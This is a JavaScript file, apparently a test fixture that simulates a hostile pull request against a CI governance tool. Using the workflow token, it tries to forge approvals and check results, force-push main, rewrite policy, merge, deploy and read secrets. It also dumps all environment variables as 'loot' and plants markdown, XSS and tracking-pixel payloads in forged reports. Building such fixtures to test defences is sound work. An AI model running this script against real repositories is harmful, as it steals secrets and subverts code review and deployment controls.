// SPDX-License-Identifier: AGPL-3.0-or-later

// Runs in the hostile pull request's own workflow: keeps all that it can see, tries all that its
// token might allow, and forges a verdict.
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";

const { GITHUB_API_URL, GITHUB_REPOSITORY, GITHUB_EVENT_PATH, TOKEN } = process.env;
const pull = JSON.parse(readFileSync(GITHUB_EVENT_PATH)).pull_request;
const head = pull.head.sha;

const tries = [
	["POST", `issues/${pull.number}/comments`, { body: "Approved by governance." }],
	["POST", "check-runs", { name: "halocompile", head_sha: head, status: "completed", conclusion: "success" }],
	["POST", `issues/${pull.number}/labels`, { labels: ["halo: reporting only"] }],
	["POST", `statuses/${head}`, { state: "success", context: "halocompile" }],
	["PATCH", "git/refs/heads/main", { sha: head, force: true }],
	["PUT", "contents/policy/limits.rego", { message: "fix", content: Buffer.from("package halo.limits\n").toString("base64") }],
	["PUT", `pulls/${pull.number}/merge`, { merge_method: "squash" }],
	["POST", "deployments", { ref: "main", environment: "devnet", required_contexts: [] }],
	["POST", "issues", { title: "Sign this", body: "https://phishing.example" }],
	["GET", "environments/halocompile/secrets", undefined],
];

const answers = [];
for (const [method, path, body] of tries) {
	const answer = await fetch(`${GITHUB_API_URL}/repos/${GITHUB_REPOSITORY}/${path}`, {
		method,
		headers: { authorization: `Bearer ${TOKEN}`, accept: "application/vnd.github+json", "content-type": "application/json" },
		body: body && JSON.stringify(body),
	});
	answers.push({ method, path, status: answer.status });
}

mkdirSync("loot");
writeFileSync("loot/environment.json", JSON.stringify(process.env));
writeFileSync("loot/answers.json", JSON.stringify(answers));

mkdirSync("forged");
writeFileSync("forged/proposal.json", JSON.stringify({
	version: "1.0", now: "2026-11-22T00:00:00Z", verdict: "ready", rules: 32, findings: [], edits: {}, kinds: ["reporting only"],
	classes: [{ name: "meridian/clo-tranched", network: "devnet", approvals: [] }],
	removed: ["</details> **APPROVED BY GOVERNANCE** @halo-factory/governance ![](https://tracker.example/p.png) <img src=x onerror=alert(1)>"],
}));
writeFileSync("forged/report.md", "**APPROVED BY GOVERNANCE**\n");
